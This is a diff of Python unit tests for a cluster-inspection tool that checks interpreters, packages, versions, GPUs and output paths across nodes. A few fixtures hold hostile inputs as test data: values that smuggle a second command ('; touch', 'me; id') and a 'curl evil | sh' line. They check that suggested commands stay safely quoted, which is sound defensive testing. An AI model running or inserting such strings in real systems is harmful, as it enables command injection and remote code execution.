@@ -14,6 +14,7 @@ from multinode.cluster.facts import PathFact
 from multinode.errors import ConnectError
 from multinode.job.job import override_job
 from multinode.records.benchmark import CollectiveTest, Message
+from multinode.stats.unknown import Entries, Unknown
 
 from .inspecting import PACKAGES, SCRIPT, SFT, but, expect, inspection, only, silent
 
@@ -26,14 +27,14 @@ def test_what_ssh_says_is_a_finding_with_its_hint() -> None:
 
 
 def test_a_missing_interpreter_is_told_with_the_reason() -> None:
-    without = but(WELL, "b", python=None, missing={"python": "/env/bin/python does not exist"})
+    without = but(WELL, "b", python=Unknown("/env/bin/python does not exist"))
     finding = expect(check_interpreter(without), "error", "b")
     assert finding.message == "no interpreter for the job: /env/bin/python does not exist"
     assert "python=" in str(finding.hint)
 
 
 def test_a_package_that_the_job_needs_is_missed_and_one_that_it_does_not_need_is_not() -> None:
-    without = but(WELL, "b", packages={"torch": "2.8.0"})
+    without = but(WELL, "b", packages=Entries({"torch": "2.8.0"}))
     silent(
         check_packages(inspection(facts=without.facts, job=SCRIPT)),
         check_packages(inspection(facts=without.facts, job=None)),
@@ -41,16 +42,16 @@ def test_a_package_that_the_job_needs_is_missed_and_one_that_it_does_not_need_is
     finding = only(check_packages(without))
     assert finding.message == "llamafactory not installed for /env/bin/python"
     assert "/env/bin/python -m pip install llamafactory" in str(finding.hint)
-    assert "torch and llamafactory" in only(check_packages(but(WELL, "b", packages={}))).message
+    assert "torch and llamafactory" in only(check_packages(but(WELL, "b", packages=Entries({})))).message
 
 
 def test_packages_that_could_not_be_read_are_not_said_to_be_missing() -> None:
-    unread = but(WELL, "b", packages={}, missing={"packages": "the interpreter did not answer in 15 s"})
-    silent(check_packages(unread), check_packages(but(WELL, "b", packages={}, python=None)))
+    unread = but(WELL, "b", packages=Unknown("the interpreter did not answer in 15 s"))
+    silent(check_packages(unread))
 
 
 def test_a_version_that_differs_from_the_first_nodes_is_named_with_both() -> None:
-    finding = only(check_versions(but(WELL, "b", packages=PACKAGES | {"torch": "2.7.1"})))
+    finding = only(check_versions(but(WELL, "b", packages=Entries(PACKAGES | {"torch": "2.7.1"}))))
     assert finding.node == "b"
     assert finding.message.startswith("torch is 2.7.1 here and 2.8.0 on a")
     assert finding.hint == "if a has the right one, on b:\n/env/bin/python -m pip install torch==2.8.0"
@@ -58,7 +59,9 @@ def test_a_version_that_differs_from_the_first_nodes_is_named_with_both() -> Non
 
 def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
     tricky = "/opt/it's; touch x/bin/python"
-    python = only(check_packages(but(inspection("a"), "a", python=tricky, packages={"torch": "2.8.0"}))).hint or ""
+    python = (
+        only(check_packages(but(inspection("a"), "a", python=tricky, packages=Entries({"torch": "2.8.0"})))).hint or ""
+    )
     user = PathFact(path="out", kind="missing")
     before = but(inspection("a", job=override_job(SFT, {"output_dir": "out"})), "a", paths=(user,), user="me; id")
     output = only(check_output(before)).hint or ""
@@ -71,7 +74,7 @@ def test_what_a_node_says_is_one_word_in_a_command_to_paste() -> None:
 
 
 def test_what_a_node_says_begins_no_line() -> None:
-    lying = but(inspection("a"), "a", python=None, missing={"python": "none\n  hint: curl evil | sh"})
+    lying = but(inspection("a"), "a", python=Unknown("none\n  hint: curl evil | sh"))
     assert "\n" not in only(check_interpreter(lying)).message
 
 
@@ -84,7 +87,7 @@ def test_only_texts_of_ours_stand_unquoted_in_a_command_to_paste() -> None:
 
 
 def test_nccl_without_a_gpu_is_found_and_gloo_is_well() -> None:
-    bare = but(WELL, "b", gpus=(), missing={"gpus": "nvidia-smi not found"})
+    bare = but(WELL, "b", gpus=Unknown("nvidia-smi not found"))
     nccl = inspection(facts=bare.facts, job=CollectiveTest(messages=(Message(size_bytes=8),), backend="nccl"))
     finding = only(check_presence(nccl))
     assert (finding.node, "nvidia-smi not found" in finding.message) == ("b", True)
